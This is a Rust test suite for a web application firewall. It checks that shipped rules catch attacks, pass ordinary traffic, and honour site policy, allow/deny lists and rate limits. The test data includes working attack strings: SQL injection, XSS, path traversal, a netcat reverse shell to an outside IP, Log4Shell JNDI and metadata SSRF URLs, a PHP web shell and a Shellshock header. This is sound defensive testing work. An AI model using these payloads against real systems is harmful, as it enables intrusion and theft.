//! The engine with the shipped default rule set: attacks of each family are caught, ordinary traffic of many
//! kinds passes, and site policy (paranoia, threshold, exclusions), allow/deny lists and rate limits behave.
//! Vectors are written for these tests; the evaluation corpora are measured by `gateway waf-eval` instead.

use std::net::IpAddr;
use std::path::Path;
use std::time::{Duration, Instant};

use waf::{Engine, ExclusionSettings, RateLimiter, RequestView, SitePolicy, Verdict, WafSiteSettings};

fn rules() -> Engine {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/waf");
    Engine::load_dir(&dir).unwrap_or_else(|e| panic!("default rules must load: {e:?}"))
}

const BROWSER: &[(&str, &[u8])] = &[
    ("host", b"shop.example.com"),
    (
        "user-agent",
        b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ),
    (
        "accept",
        b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    ),
    ("accept-language", b"de-DE,de;q=0.8,en-US;q=0.5,en;q=0.3"),
    ("accept-encoding", b"gzip, deflate, br, zstd"),
    ("referer", b"https://shop.example.com/search?q=shoes"),
    (
        "cookie",
        b"_ga=GA1.2.1021.1700000000; __utmz=1.1.1.1.utmcsr=google|utmccn=(organic)|utmcmd=organic; sid=Zm9vYmFyYmF6",
    ),
    ("sec-fetch-mode", b"navigate"),
];

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

fn eval_with(
    engine: &Engine,
    site: &SitePolicy,
    method: &str,
    uri: &str,
    headers: &[(&str, &[u8])],
    body: &[u8],
) -> Verdict {
    let req = RequestView {
        method,
        uri,
        headers,
        client_ip: ip("127.0.0.2"),
        body,
        body_complete: true,
        body_only: false,
        body_offset: 0,
    };
    engine.evaluate(&req, site, &RateLimiter::default())
}

fn with_ct(ct: &[u8]) -> Vec<(&str, &[u8])> {
    let mut h = BROWSER.to_vec();
    h.push(("content-type", ct));
    h
}

#[test]
fn attacks_of_every_family_are_caught() {
    let e = rules();
    let site = SitePolicy::default();
    let gets = [
        "/item?id=1%27%20or%20%271%27%3D%271",
        "/item?id=1%20union%20all%20select%20null,version()--",
        "/item?id=5;waitfor%20delay%20%270:0:5%27--",
        "/p?q=%3Cscript%3Ealert(document.domain)%3C/script%3E",
        "/p?q=%22%3E%3Csvg/onload=confirm(1)%3E",
        "/p?u=javascript:alert(1)",
        "/dl?file=..%2f..%2f..%2fetc%2fpasswd",
        "/dl?file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini",
        "/inc?page=http://198.51.100.7/shell.txt?",
        "/ping?host=127.0.0.1;cat%20/etc/shadow",
        "/ping?host=x%7Cnc%20-e%20/bin/sh%20203.0.113.5%204444",
        "/run?cmd=powershell%20-enc%20SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "/x?a=%3C?php%20system($_GET[%27c%27]);%20?%3E",
        "/x?a=${jndi:ldap://203.0.113.5/a}",
        "/fetch?url=http://169.254.169.254/latest/meta-data/iam/",
        "/tpl?name={{7*7}}",
        "/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "/p?q=%C0%BCscript%C0%BE",
        "/p?q=%3Ciframe%20src%3Djavascript%3Aalert(1)%3E",
        "/p?q=%3Cimg%20src%3D%22data%3Atext%2Fhtml%3Bbase64%2CPHNjcmlwdD4%3D%22%3E",
    ];
    for uri in gets {
        let v = eval_with(&e, &site, "GET", uri, BROWSER, b"");
        assert!(v.attack, "not caught: {uri} -> {v:?}");
    }
    let json = with_ct(b"application/json");
    let v = eval_with(
        &e,
        &site,
        "POST",
        "/api/v1/login",
        &json,
        br#"{"user":{"name":"admin' OR 1=1-- ","pw":"x"}}"#,
    );
    assert!(v.attack, "JSON SQLi: {v:?}");
    let v = eval_with(
        &e,
        &site,
        "POST",
        "/api/v1/notes",
        &json,
        br#"{"a":[{"b":[{"c":"<img src=x onerror=alert(1)>"}]}]}"#,
    );
    assert!(v.attack, "nested JSON XSS: {v:?}");
    let xml = with_ct(b"text/xml");
    let v = eval_with(
        &e,
        &site,
        "POST",
        "/soap",
        &xml,
        br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
    );
    assert!(v.attack, "XXE: {v:?}");
    let mp = with_ct(b"multipart/form-data; boundary=b0und");
    let body = b"--b0und\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\nContent-Type: image/png\r\n\r\n\x89PNG\r\n--b0und--\r\n";
    let v = eval_with(&e, &site, "POST", "/upload", &mp, body);
    assert!(v.attack, "PHP upload: {v:?}");
    // A raw `+` in a form body decodes to a space: JSFuck must still be seen after that.
    let form = with_ct(b"application/x-www-form-urlencoded");
    let v = eval_with(&e, &site, "POST", "/post", &form, b"a=(![]+[])[+!+[]]");
    assert!(v.attack, "JSFuck in a form body: {v:?}");
    let v = eval_with(
        &e,
        &site,
        "GET",
        "/x?f=(%20[%20system%20][%200%20])%20{/*c*/0}%20(%20id%20);",
        BROWSER,
        b"",
    );
    assert!(v.attack, "PHP array-deref call with a string offset: {v:?}");
    let body = b"--b0und\r\nContent-Disposition: form-data; name=\"a\"\r\nContent-Type: text/plain; charset=shift_jis\r\n\r\nx\r\n--b0und--\r\n";
    let v = eval_with(&e, &site, "POST", "/upload", &mp, body);
    assert!(v.attack, "legacy charset in a multipart part: {v:?}");
    let mut smuggle = BROWSER.to_vec();
    smuggle.push(("content-length", b"4"));
    smuggle.push(("transfer-encoding", b"chunked"));
    assert!(
        eval_with(&e, &site, "POST", "/", &smuggle, b"0\r\n\r\n").attack,
        "CL+TE"
    );
    for (method, header, value) in [
        ("GET", "content-length", &b"5"[..]),
        ("HEAD", "content-length", b"12"),
        ("GET", "transfer-encoding", b"chunked"),
    ] {
        let mut h = BROWSER.to_vec();
        h.push((header, value));
        assert!(
            eval_with(&e, &site, method, "/", &h, b"").attack,
            "{method} with {header}: {value:?}"
        );
    }
    for (name, a, b) in [
        (
            "content-type",
            &b"application/json"[..],
            &b"multipart/form-data; boundary=x"[..],
        ),
        ("host", b"shop.example", b"admin.internal"),
    ] {
        let mut h = BROWSER.to_vec();
        h.retain(|(n, _)| *n != name);
        h.push((name, a));
        h.push((name, b));
        assert!(eval_with(&e, &site, "POST", "/", &h, b"").attack, "two {name} headers");
    }
    // The same payloads relabelled: backends that parse a body whatever its Content-Type get them all the same.
    for ct in [&b"text/plain"[..], b"application/octet-stream"] {
        let h = with_ct(ct);
        let v = eval_with(
            &e,
            &site,
            "POST",
            "/api",
            &h,
            br#"{"id": "1' union select password from users-- -"}"#,
        );
        assert!(v.attack, "JSON as {}: {v:?}", String::from_utf8_lossy(ct));
        let v = eval_with(
            &e,
            &site,
            "POST",
            "/login",
            &h,
            b"user=admin&cmd=%3Bcat+%2Fetc%2Fpasswd",
        );
        assert!(v.attack, "form as {}: {v:?}", String::from_utf8_lossy(ct));
    }
    let mut scanner = BROWSER.to_vec();
    scanner[1] = ("user-agent", b"sqlmap/1.7.2#stable (https://sqlmap.org)");
    assert!(eval_with(&e, &site, "GET", "/", &scanner, b"").attack, "scanner UA");
}

#[test]
fn ordinary_traffic_passes() {
    let e = rules();
    let site = SitePolicy::default();
    let gets = [
        "/",
        "/search?q=%22red+shoes%22+size+42&sort=price_asc&page=3",
        "/search?q=O%27Brien+%26+Sons+-+select+a+store",
        "/search?q=how+to+use+%22union%22+in+a+sentence",
        "/search?q=javascript+the+good+parts",
        "/search?q=javascript%3A+the+good+parts",
        "/search?q=wget+vs+curl&lang=en",
        "/search?q=php+echo+vs+print",
        "/search?q=how+to+kill+a+process+in+linux",
        "/search?q=SELECT+box+for+sale",
        "/search?q=1%2F2+cup+sugar+(optional)",
        "/products/42?ref=newsletter&utm_source=mail&utm_campaign=spring-sale_2024",
        "/static/app.3f9a1c2b.js",
        "/api/v2/users/8f14e45f-ceea-467f-a0e6-1b1b8e1f3c2d/orders?limit=50&offset=100",
        "/maps?ll=52.5200,13.4050&z=12",
        "/redirect?next=%2Faccount%2Fsettings%3Ftab%3Dprofile",
        "/wiki/C%2B%2B_(programming_language)",
        "/calc?expr=3*(4%2B5)-2",
    ];
    for uri in gets {
        let v = eval_with(&e, &site, "GET", uri, BROWSER, b"");
        assert!(!v.attack, "false positive: {uri} -> {v:?}");
    }
    // The same Content-Type twice (a proxy that appends rather than replaces) is no conflict.
    let mut twice = with_ct(b"application/json");
    twice.push(("content-type", b"Application/JSON "));
    assert!(
        !eval_with(&e, &site, "POST", "/api", &twice, b"{}").attack,
        "repeated equal Content-Type"
    );
    // An explicit empty body on GET (some HTTP libraries send `Content-Length: 0`), and bodies on the methods that
    // have them.
    let mut zero = BROWSER.to_vec();
    zero.push(("content-length", b"0"));
    assert!(
        !eval_with(&e, &site, "GET", "/", &zero, b"").attack,
        "GET with Content-Length: 0"
    );
    let mut form_cl = with_ct(b"application/x-www-form-urlencoded");
    form_cl.push(("content-length", b"3"));
    for method in ["POST", "PUT", "PATCH", "DELETE"] {
        let v = eval_with(&e, &site, method, "/items/1", &form_cl, b"a=1");
        assert!(!v.attack, "{method} with a body: {v:?}");
    }
    let form = with_ct(b"application/x-www-form-urlencoded");
    let bodies: [&[u8]; 5] = [
        b"name=Jos%C3%A9+Mar%C3%ADa&email=jose%40example.es&phone=%2B34+600+000+000&msg=Hello%2C+I%27d+like+to+order+2+boxes.",
        b"comment=I+think+it%27s+great%3B+really.+5%2F5+would+buy+again%21&rating=5",
        b"address=Calle+Mayor+1%2C+2%C2%BA+B&city=Madrid&zip=28013",
        b"q=select+the+best+option+from+the+list+below",
        b"md=See+%21%5B%5D%28logo.png%29+and+%5B%5D+%28empty+list%29+%28see+%5Bnotes%5D%29+%28below%29",
    ];
    for b in bodies {
        let v = eval_with(&e, &site, "POST", "/contact", &form, b);
        assert!(!v.attack, "form FP: {} -> {v:?}", String::from_utf8_lossy(b));
    }
    let json = with_ct(b"application/json; charset=utf-8");
    let v = eval_with(
        &e,
        &site,
        "POST",
        "/api/v1/orders",
        &json,
        br#"{"customer":{"name":"Jane O'Neil","email":"jane@example.com"},"items":[{"sku":"SKU-001","qty":2,"note":"gift wrap; no card"}],"total":29.90,"tags":["a","b"],"meta":null}"#,
    );
    assert!(!v.attack, "JSON FP: {v:?}");
    // A rich-text editor posting ordinary HTML.
    let v = eval_with(
        &e,
        &site,
        "POST",
        "/cms/save",
        &json,
        br#"{"html":"<h2>Opening hours</h2><p>We are open <strong>Mon&ndash;Fri</strong>, see <a href=\"https://example.com/map\" target=\"_blank\" rel=\"noopener\">the map</a>.</p><ul><li>Item 1</li></ul><img src=\"https://cdn.example.com/a.png\" alt=\"shop front\" width=\"300\"><table><tr><td>Tea</td><td>2.50</td></tr></table>"}"#,
    );
    assert!(!v.attack, "rich text FP: {v:?}");
    let mp = with_ct(b"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW");
    let body = b"------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos (2024)\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"file\"; filename=\"IMG_0042 copy.JPG\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0<?php junk bytes in a jpeg are not inspected\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n";
    let v = eval_with(&e, &site, "POST", "/upload", &mp, body);
    assert!(!v.attack, "upload FP: {v:?}");
    // Editors also produce inline styles, pasted images as data URIs and video embeds.
    let v = eval_with(
        &e,
        &site,
        "POST",
        "/cms/save",
        &json,
        br#"{"html":"<p style=\"text-align: center; color: rgb(51, 51, 51);\"><span style=\"font-family: Arial\">Hi</span></p><p><img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\" alt=\"dot\"></p><iframe src=\"https://www.youtube.com/embed/abc123\" width=\"560\" height=\"315\" allowfullscreen></iframe>"}"#,
    );
    assert!(!v.attack, "editor HTML FP: {v:?}");
    let v = eval_with(
        &e,
        &site,
        "POST",
        "/c",
        &json,
        br#"{"comment":"I'd say it's 50/50 -- maybe; \"probably\" not. :)"}"#,
    );
    assert!(!v.attack, "punctuation FP: {v:?}");
    // Chat/notes APIs: markdown code spans and template placeholders.
    let v = eval_with(
        &e,
        &site,
        "POST",
        "/api/v1/messages",
        &json,
        br#"{"text":"Run `npm install` and then `make test` (see the README). Hello ${name}, your order ${order_id} has shipped!"}"#,
    );
    assert!(!v.attack, "markdown/template FP: {v:?}");
    // A framework session cookie holding a base64-encoded serialized PHP array.
    let mut cookie = BROWSER.to_vec();
    cookie[6] = (
        "cookie",
        b"ci_session=YToyOntzOjEwOiJzZXNzaW9uX2lkIjtzOjM6ImFiYyI7czo3OiJ1c2VyX2lkIjtpOjQyO30=",
    );
    let v = eval_with(&e, &site, "GET", "/account", &cookie, b"");
    assert!(!v.attack, "session cookie FP: {v:?}");
    // Binary uploads are not text: random bytes must not look like attacks.
    let mut x: u32 = 12345;
    let noise: Vec<u8> = (0..256 * 1024)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            (x >> 24) as u8
        })
        .collect();
    let noise = [&b"<?php system($_GET['c']); () { :; }; /bin/sh "[..], &noise].concat();
    for ct in [&b"application/octet-stream"[..], b"image/jpeg", b"application/zip"] {
        let h = with_ct(ct);
        let v = eval_with(&e, &site, "PUT", "/files/blob", &h, &noise);
        assert!(!v.attack, "binary body FP for {}: {v:?}", String::from_utf8_lossy(ct));
    }
    let proto = with_ct(b"application/x-protobuf");
    let v = eval_with(
        &e,
        &site,
        "POST",
        "/rpc",
        &proto,
        b"\x0a\x05hello\x10\x96\x01\x1a\x03\x00\x01\x02",
    );
    assert!(!v.attack, "protobuf FP: {v:?}");
}

#[test]
fn more_than_255_query_arguments_are_flagged() {
    let e = rules();
    let site = SitePolicy::default();
    let query = |n: usize| (0..n).map(|i| format!("f{i}=1")).collect::<Vec<_>>().join("&");
    let fired = |n: usize| {
        eval_with(&e, &site, "GET", &format!("/s?{}", query(n)), BROWSER, b"")
            .matches
            .iter()
            .any(|m| m.id == 920380)
    };
    assert!(!fired(255), "255 arguments are within the limit");
    assert!(fired(256));
    assert!(fired(1000));
}

#[test]
fn attack_after_a_million_arguments_is_seen_in_bounded_time() {
    let e = rules();
    let mut body = Vec::with_capacity(10 << 20);
    for n in 0..1_000_000u32 {
        body.extend_from_slice(format!("a{n}=1&").as_bytes());
    }
    body.extend_from_slice(b"z=1%27%20union%20select%20password%20from%20users--");
    let form = with_ct(b"application/x-www-form-urlencoded");
    let site = SitePolicy {
        inspect_body_limit: 64 << 20,
        ..SitePolicy::default()
    };
    let start = Instant::now();
    let v = eval_with(&e, &site, "POST", "/f", &form, &body);
    assert!(v.attack, "{:?}", v.matches.first());
    assert!(start.elapsed() < Duration::from_secs(60), "took {:?}", start.elapsed());
}

#[test]
fn deep_json_is_inspected_without_recursion() {
    let e = rules();
    let mut body = "[".repeat(200_000).into_bytes();
    body.extend_from_slice(br#"{"k":"<script>alert(1)</script>"}"#);
    body.extend_from_slice("]".repeat(200_000).as_bytes());
    let json = with_ct(b"application/json");
    assert!(eval_with(&e, &SitePolicy::default(), "POST", "/j", &json, &body).attack);
}

#[test]
fn body_beyond_the_inspection_limit_is_not_inspected() {
    let e = rules();
    let form = with_ct(b"application/x-www-form-urlencoded");
    let mut body = b"a=".to_vec();
    body.extend_from_slice(&[b'a'; 2048]);
    body.extend_from_slice(b"&x=%3Cscript%3Ealert(1)%3C/script%3E");
    let small = SitePolicy {
        inspect_body_limit: 1024,
        ..SitePolicy::default()
    };
    assert!(!eval_with(&e, &small, "POST", "/f", &form, &body).attack);
    assert!(eval_with(&e, &SitePolicy::default(), "POST", "/f", &form, &body).attack);
}

#[test]
fn body_only_pass_inspects_only_the_body() {
    let e = rules();
    let form = with_ct(b"application/x-www-form-urlencoded");
    let req = RequestView {
        method: "GET",
        uri: "/p?q=%3Cscript%3Ealert(1)%3C/script%3E",
        headers: &form,
        client_ip: ip("127.0.0.3"),
        body: b"note=hello",
        body_complete: true,
        body_only: true,
        body_offset: 0,
    };
    assert!(!e.evaluate(&req, &SitePolicy::default(), &RateLimiter::default()).attack);
    let req = RequestView {
        body: b"note=%27%20or%201%3D1--",
        ..req
    };
    assert!(e.evaluate(&req, &SitePolicy::default(), &RateLimiter::default()).attack);
}

#[test]
fn exclusions_threshold_and_paranoia() {
    let e = rules();
    let uri = "/cms/save?content=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
    let base = eval_with(&e, &SitePolicy::default(), "GET", uri, BROWSER, b"");
    assert!(base.attack);
    let compile = |ex: Vec<ExclusionSettings>| {
        SitePolicy::compile(&WafSiteSettings {
            exclusions: ex,
            ..WafSiteSettings::default()
        })
        .unwrap()
    };
    // Tag excluded for this argument under a path prefix.
    let by_arg = compile(vec![ExclusionSettings {
        tags: vec!["xss".into()],
        path_prefix: Some("/cms/".into()),
        arg: Some("content".into()),
        ..Default::default()
    }]);
    let v = eval_with(&e, &by_arg, "GET", uri, BROWSER, b"");
    assert!(!v.matches.iter().any(|m| m.id / 1000 == 941), "{v:?}");
    // The same exclusion does not cover another argument or another path.
    assert!(
        eval_with(
            &e,
            &by_arg,
            "GET",
            "/cms/save?other=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            BROWSER,
            b""
        )
        .attack
    );
    assert!(
        eval_with(
            &e,
            &by_arg,
            "GET",
            "/blog?content=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            BROWSER,
            b""
        )
        .attack
    );
    // Every rule off for a client range.
    let by_client = compile(vec![ExclusionSettings {
        client: vec!["127.0.0.0/24".parse().unwrap()],
        ..Default::default()
    }]);
    assert!(!eval_with(&e, &by_client, "GET", uri, BROWSER, b"").attack);
    // By rule id, with a path regex.
    let ids: Vec<u32> = base.matches.iter().map(|m| m.id).collect();
    let by_id = compile(vec![ExclusionSettings {
        rules: ids,
        path_regex: Some("^/cms/(save|edit)$".into()),
        ..Default::default()
    }]);
    assert!(!eval_with(&e, &by_id, "GET", uri, BROWSER, b"").attack);
    // A threshold above the score lets it pass; paranoia 1 ignores paranoia-2 rules.
    let lax = SitePolicy {
        threshold: base.score + 1,
        ..SitePolicy::default()
    };
    assert!(!eval_with(&e, &lax, "GET", uri, BROWSER, b"").attack);
    let v = eval_with(&e, &SitePolicy::default(), "PROPFIND", "/", BROWSER, b"");
    assert!(!v.matches.iter().any(|m| m.id == 911110), "{v:?}");
    let strict = SitePolicy {
        paranoia: 2,
        ..SitePolicy::default()
    };
    let v = eval_with(&e, &strict, "PROPFIND", "/", BROWSER, b"");
    assert!(v.matches.iter().any(|m| m.id == 911110), "{v:?}");
    assert!(SitePolicy::compile(&WafSiteSettings {
        paranoia: 9,
        ..WafSiteSettings::default()
    })
    .is_err());
    let bad_re = ExclusionSettings {
        path_regex: Some("(".into()),
        ..Default::default()
    };
    assert!(SitePolicy::compile(&WafSiteSettings {
        exclusions: vec![bad_re],
        ..WafSiteSettings::default()
    })
    .is_err());
}

const POLICY_RULES: &str = r#"
[[rule]]
id = 1
msg = "office"
action = "allow"
detect = { ip = ["10.1.0.0/16", "2001:db8::/32"] }

[[rule]]
id = 2
msg = "health"
action = "allow"
targets = ["path"]
detect = { regex = '^/healthz$' }

[[rule]]
id = 3
msg = "banned"
action = "deny"
detect = { ip = ["192.0.2.0/24"] }

[[rule]]
id = 4
msg = "cc"
action = "deny"
detect = { rate = { requests = 3, window = "60s" } }

[[rule]]
id = 5
msg = "admin path"
severity = "warning"
targets = ["path"]
transforms = ["url_decode", "lowercase"]
detect = { literals = ["/wp-admin", "/phpmyadmin"] }
"#;

#[test]
fn allowlists_denylists_and_rate_limits() {
    let e = Engine::from_sources([(Path::new("policy.toml"), POLICY_RULES)]).unwrap();
    assert_eq!(e.rule_count(), 5);
    let site = SitePolicy::default();
    let rate = RateLimiter::default();
    let req = |client: &str, uri: &'static str| RequestView {
        method: "GET",
        uri,
        headers: &[],
        client_ip: ip(client),
        body: b"",
        body_complete: true,
        body_only: false,
        body_offset: 0,
    };
    let v = e.evaluate(&req("10.1.2.3", "/phpmyadmin"), &site, &rate);
    assert!(v.allowlisted && !v.attack);
    assert!(e.evaluate(&req("2001:db8::5", "/"), &site, &rate).allowlisted);
    assert!(e.evaluate(&req("192.0.2.7", "/healthz"), &site, &rate).allowlisted);
    let v = e.evaluate(&req("192.0.2.7", "/"), &site, &rate);
    assert!(v.attack && v.primary_rule() == Some(3), "{v:?}");
    let v = e.evaluate(&req("127.0.0.5", "/PhpMyAdmin/index.php"), &site, &rate);
    assert_eq!((v.attack, v.score), (false, 3), "{v:?}");
    // CC: the 4th request to one URL within the window is an attack; another client or URL is not.
    for _ in 0..3 {
        assert!(!e.evaluate(&req("127.0.0.9", "/search"), &site, &rate).attack);
    }
    assert!(e.evaluate(&req("127.0.0.9", "/search"), &site, &rate).attack);
    assert!(!e.evaluate(&req("127.0.0.10", "/search"), &site, &rate).attack);
    assert!(!e.evaluate(&req("127.0.0.9", "/other"), &site, &rate).attack);
}

#[test]
fn broken_rule_files_report_file_and_line() {
    let cases = [
        ("[[rule]]\nid = 1\nmsg = \"x\"\ntargets = [\"args\"]\ndetect = { regex = '(?<=a)b' }\n", 1, "look-around"),
        ("[[rule]]\nid = 1\nmsg = \"x\"\n\n[[rule]]\nid = 1\nmsg = \"y\"\ntargets = [\"args\"]\ndetect = { literals = [\"a\"] }\n", 1, "missing field"),
        ("\n\n[[rule]]\nid = 7\nmsg = \"x\"\ntargets = [\"argz\"]\ndetect = { regex = 'a' }\n", 3, "unknown target"),
        ("[[rule]]\nid = 7\nmsg = \"x\"\ntargets = [\"args\"]\ntransforms = [\"rot13\"]\ndetect = { regex = 'a' }\n", 5, "rot13"),
    ];
    for (text, line, needle) in cases {
        let errs = Engine::from_sources([(Path::new("rules/bad.toml"), text)]).unwrap_err();
        let msg = errs[0].to_string();
        assert!(msg.starts_with(&format!("rules/bad.toml:{line}: ")), "{msg}");
        assert!(msg.contains(needle), "{msg}");
    }
    let dup = "[[rule]]\nid = 9\nmsg = \"x\"\ndetect = { ip = [\"10.0.0.0/8\"] }\n";
    let errs = Engine::from_sources([(Path::new("a.toml"), dup), (Path::new("b.toml"), dup)]).unwrap_err();
    assert!(errs[0].to_string().contains("duplicate rule id 9"), "{:?}", errs);
    let dir = std::env::temp_dir().join(format!("waf-missing-{}", std::process::id()));
    assert!(Engine::load_dir(&dir).is_err());
}

#[test]
fn remembered_clean_values_never_hide_attacks() {
    let e = rules();
    let pl1 = SitePolicy::default();
    let pl2 = SitePolicy {
        paranoia: 2,
        ..SitePolicy::default()
    };
    let excluded = SitePolicy::compile(&WafSiteSettings {
        exclusions: vec![ExclusionSettings {
            tags: vec!["rce".into()],
            ..Default::default()
        }],
        ..WafSiteSettings::default()
    })
    .unwrap();
    let mut h = BROWSER.to_vec();
    for _ in 0..3 {
        assert!(!eval_with(&e, &pl1, "GET", "/", &h, b"").attack);
    }
    h[1] = ("user-agent", b"() { :; }; /bin/bash -c 'cat /etc/passwd'");
    // Seen first by a site that excludes the rule: it must still fire for a site that does not.
    assert!(!eval_with(&e, &excluded, "GET", "/", &h, b"")
        .matches
        .iter()
        .any(|m| m.id == 932170));
    assert!(eval_with(&e, &pl1, "GET", "/", &h, b"").attack);
    // A value only a paranoia-2 rule flags stays visible to paranoia-2 sites.
    let webdav: &[(&str, &[u8])] = &[("host", b"a.example")];
    let req = |site: &SitePolicy| eval_with(&e, site, "PROPFIND", "/", webdav, b"");
    assert!(!req(&pl1).matches.iter().any(|m| m.id == 911110));
    assert!(req(&pl2).matches.iter().any(|m| m.id == 911110));
}

/// Ordinary values (letters, digits, spaces …) skip every transform and matcher only while no rule of their target
/// can match such a value without a gate literal: one ungated, plain-capable pattern (a one-letter command name
/// in a word list did it) sends every argument of every request through all transform chains.
#[test]
fn default_rules_keep_plain_values_cheap() {
    let e = rules();
    let lines = e.describe();
    for target in [
        "ArgName",
        "ArgValue",
        "CookieName",
        "CookieValue",
        "HeaderValue",
        "Body",
        "Path",
        "Uri",
    ] {
        let line = lines
            .iter()
            .find(|l| l.starts_with(&format!("{target}:")))
            .unwrap_or_else(|| panic!("no {target} line in {lines:?}"));
        assert!(line.contains("plain values skip: true"), "{line}");
    }
}

/// Session fixation needs a browser to carry the session id: in a link's query or a form post from another site.
/// API clients post JSON with generic session-id keys and no Referer; framework names count in JSON too (CRS).
#[test]
fn session_fixation_is_a_link_or_form_matter() {
    let e = rules();
    let site = SitePolicy::default();
    let no_referer: Vec<(&str, &[u8])> = BROWSER.iter().copied().filter(|(n, _)| *n != "referer").collect();
    let with = |referer: &'static [u8], ct: Option<&'static [u8]>| {
        let mut h = no_referer.clone();
        h.push(("referer", referer));
        if let Some(ct) = ct {
            h.push(("content-type", ct));
        }
        h
    };
    let v = eval_with(&e, &site, "GET", "/login?jsessionid=8F3A2B", &no_referer, b"");
    assert!(v.attack, "session id in a link, no Referer: {v:?}");
    let off_site = with(
        b"https://evil.example.net/x",
        Some(b"application/x-www-form-urlencoded"),
    );
    let v = eval_with(&e, &site, "POST", "/login", &off_site, b"PHPSESSID=abc123&user=bob");
    assert!(v.attack, "session id in a form posted from another site: {v:?}");
    let same_site = with(b"https://shop.example.com/cart", None);
    let v = eval_with(&e, &site, "GET", "/cart?jsessionid=8F3A2B", &same_site, b"");
    assert!(!v.attack, "same-site Referer: {v:?}");
    let mut json = no_referer.clone();
    json.push(("content-type", b"application/json"));
    for body in [
        &br#"{"sessionId": "d330fcd6-d294-46bf-a475-a3d22f5c6df9", "event": "app_open"}"#[..],
        br#"{"session_id": "f8c40196f060afa24a2e91c8dbee6f24", "screen": "Cart"}"#,
    ] {
        let v = eval_with(&e, &site, "POST", "/v1/events", &json, body);
        assert!(!v.attack, "app event with a session-id key: {v:?}");
    }
    let v = eval_with(&e, &site, "POST", "/", &json, br#"{ "jsessionid": "foo" }"#);
    assert!(v.attack, "a framework's session id in JSON: {v:?}");
    let v = eval_with(&e, &site, "GET", "/?session_id=abc", &no_referer, b"");
    assert!(v.attack, "a generic session id in a link: {v:?}");
}
